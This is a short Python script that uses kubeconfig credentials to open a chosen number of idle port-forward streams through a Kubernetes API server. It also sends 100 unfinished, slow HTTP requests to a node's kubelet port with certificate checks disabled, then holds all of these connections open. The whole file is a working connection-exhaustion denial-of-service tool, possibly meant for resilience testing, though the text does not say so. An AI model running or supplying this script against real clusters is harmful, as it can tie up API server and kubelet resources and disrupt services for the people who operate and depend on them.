"""Opens many idle port-forward streams by way of the API server, and slow half-requests to the agent; then holds them."""
import socket, ssl, sys
from kubernetes import client, config
import websocket

config.load_kube_config()
space, count, node = sys.argv[1], int(sys.argv[2]), sys.argv[3]
configuration = client.Configuration.get_default_copy()
host = configuration.host.replace("https://", "")
address = (host.split(":")[0], int(host.split(":")[1]))
tls = ssl.create_default_context(cafile=configuration.ssl_ca_cert)
tls.load_cert_chain(configuration.cert_file, configuration.key_file)
anyone = ssl.create_default_context()
anyone.check_hostname, anyone.verify_mode = False, ssl.CERT_NONE
held = []
for _ in range(count):
    plain = tls.wrap_socket(socket.create_connection(address), server_hostname=address[0])
    url = "wss://%s/api/v1/namespaces/%s/pods/web/portforward?ports=8080" % (host, space)
    held.append(websocket.create_connection(url, socket=plain, subprotocols=["v4.channel.k8s.io"]))
for _ in range(100):
    slow = anyone.wrap_socket(socket.create_connection((node, 10250)))
    slow.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
    held.append(slow)
print("open", flush=True)
sys.stdin.read()
